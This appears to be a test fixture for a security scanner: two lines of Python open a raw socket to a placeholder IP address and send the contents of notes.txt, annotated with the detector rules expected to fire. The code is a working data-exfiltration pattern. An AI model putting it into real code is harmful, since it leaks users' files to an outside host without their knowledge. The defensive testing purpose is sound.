import socket

link = socket.create_connection(("203.0.113.9", 9001)) # expect: data-exfiltration/raw-socket, url-analyzer/raw-ip
link.sendall(open("notes.txt", "rb").read()) # expect: data-exfiltration/raw-socket, url-analyzer/raw-ip
